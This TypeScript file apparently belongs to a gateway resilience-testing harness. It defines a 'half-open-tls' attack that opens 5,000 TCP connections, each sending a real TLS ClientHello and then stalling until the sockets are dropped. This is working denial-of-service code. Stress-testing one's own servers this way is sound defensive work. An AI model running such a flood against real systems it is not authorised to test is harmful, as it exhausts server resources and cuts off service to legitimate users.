import { Duplex } from 'node:stream';
import { setTimeout as wait } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { type Attack, inParallel, openTcp } from './attack.ts';

const CONNECTIONS = 5000;

export const halfOpenTls: Attack = {
  name: 'half-open-tls',
  what: '5,000 connections send a good ClientHello each, and never what comes after it',
  tls: true,
  async run(target) {
    const hello = await clientHello();
    const sockets = new Set<{ destroy(): void }>();
    await inParallel(CONNECTIONS, 200, async () => {
      const socket = await openTcp(target);
      sockets.add(socket);
      socket.write(hello);
    });
    await wait(4000);
    for (const socket of sockets) socket.destroy();
    return { connections: CONNECTIONS, bytes: CONNECTIONS * hello.length };
  },
};

/** What a TLS client of Node writes first. */
function clientHello(): Promise<Buffer> {
  const { promise, resolve } = Promise.withResolvers<Buffer>();
  const stream = new Duplex({
    read() {},
    write(chunk: Buffer, _encoding, done) {
      resolve(chunk);
      done();
    },
  });
  connectTls({ socket: stream, servername: 'gw.example.com', rejectUnauthorized: false }).on(
    'error',
    () => {},
  );
  return promise;
}
